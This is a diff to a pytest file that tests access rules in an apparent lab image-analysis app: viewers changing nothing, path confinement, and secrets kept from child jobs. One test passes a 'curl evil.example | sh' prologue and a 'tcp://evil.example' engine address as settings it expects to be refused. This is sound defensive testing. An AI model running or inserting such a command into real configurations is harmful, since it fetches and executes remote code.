@@ -1,5 +1,8 @@
 """Who may do what: a viewer changes nothing, whatever is called; hosted, no file is read that is below no root."""
 
+from collections.abc import Iterator
+from contextlib import contextmanager
+
 import numpy as np
 import pandas as pd
 import pytest
@@ -57,6 +60,14 @@ CHANGES = {
 }
 
 
+@contextmanager
+def acting_as(person: Person) -> Iterator[None]:
+    """The app says that this person asks."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(access, "_ask", lambda: person)
+        yield
+
+
 @pytest.fixture
 def stored() -> None:
     make_imageset(n=60)
@@ -74,13 +85,13 @@ def _content() -> dict[str, bytes]:
 @pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
 def test_a_viewer_changes_nothing(stored, change):
     before = _content()
-    with access.acting_as(VIEWER), pytest.raises(AccessError, match="viewer"):
+    with acting_as(VIEWER), pytest.raises(AccessError, match="viewer"):
         change()
     assert _content() == before
 
 
 def test_an_editor_who_is_hosted_changes_what_others_see_but_not_what_a_shell_runs(stored):
-    with access.acting_as(EDITOR):
+    with acting_as(EDITOR):
         annotations.mark(_run(), 0, "clusters_kmeans_k3", 0, name="round")
         settings.save_settings(settings.load_settings({"slots": 2}))
         for changes in ({"slurm": {"prologue": ["curl evil.example | sh"]}}, {"engine": "tcp://evil.example:8786"}):
@@ -102,7 +113,7 @@ def test_hosted_no_file_is_read_that_is_below_no_root(stored, tmp_path, monkeypa
         lambda: field_lists.list_fields(str(tmp_path)),
         lambda: submitting.submit(RunSpec.from_mapping(weights), start=False),
     ]
-    with access.acting_as(EDITOR):
+    with acting_as(EDITOR):
         for read in reads:
             with pytest.raises(AccessError, match="below its roots"):
                 read()
@@ -117,7 +128,7 @@ def test_a_table_of_fields_names_nothing_outside(stored, tmp_path):
     folder = stores.data_root() / ".upload-x"
     folder.mkdir()
     (folder / "fields.csv").write_text(f"well,dna\nA1,{tmp_path / 'outside.png'}\nA2,../../outside.png\n")
-    with access.acting_as(EDITOR):
+    with acting_as(EDITOR):
         listed = field_lists.list_fields(str(folder / "fields.csv"))
     assert {row.files[0][0] for row in listed.fields} == {folder / "outside.png"}  # where there is none
 
@@ -125,13 +136,13 @@ def test_a_table_of_fields_names_nothing_outside(stored, tmp_path):
 def test_who_sees_one_run_is_told_of_one(stored):
     make_run(spec={"seed": 6})
     one = _run().id
-    with access.acting_as(Person(role=access.VIEWER, hosted=True, by_page=True, only=one)):
+    with acting_as(Person(role=access.VIEWER, hosted=True, by_page=True, only=one)):
         assert [run["id"] for run in registry.list_runs()] == [one]
 
 
 def test_a_job_is_bound_as_who_started_it_and_knows_no_password(monkeypatch):
     monkeypatch.setenv("VIEWLOOM_PASSWORD", "correct horse")
-    with access.acting_as(EDITOR):
+    with acting_as(EDITOR):
         environment = processes.child_environment()
     assert environment[access.VARIABLE] == "ed@lab.example"
     assert not set(access.SECRETS) & set(environment)
